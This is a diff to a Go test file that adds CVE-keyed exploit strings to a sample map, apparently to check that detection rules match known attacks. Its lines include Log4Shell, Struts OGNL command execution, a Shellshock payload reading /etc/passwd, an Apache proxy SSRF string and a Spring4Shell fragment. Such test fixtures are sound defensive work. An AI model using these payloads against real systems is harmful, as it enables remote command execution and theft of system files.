@@ -98,6 +98,9 @@ func TestFramingRulesAreWhatInspectReports(t *testing.T) {
 var cveSamples = map[string]string{
 	"CVE-2021-44228": "${jndi:ldap://198.51.100.7:1389/a}",
 	"CVE-2017-5638":  "%{(#_memberAccess['allowStaticMethodAccess']=true).(#cmd='id').(@java.lang.Runtime@getRuntime().exec(#cmd))}.multipart/form-data",
+	"CVE-2014-6271":  "() { :; }; /bin/bash -c 'cat /etc/passwd'",
+	"CVE-2021-40438": "unix:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA|http://example.com/",
+	"CVE-2022-22965": "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i",
 }
 
 // TestRulesAboutACVEMatchIt: a rule that names a CVE matches an exploit of
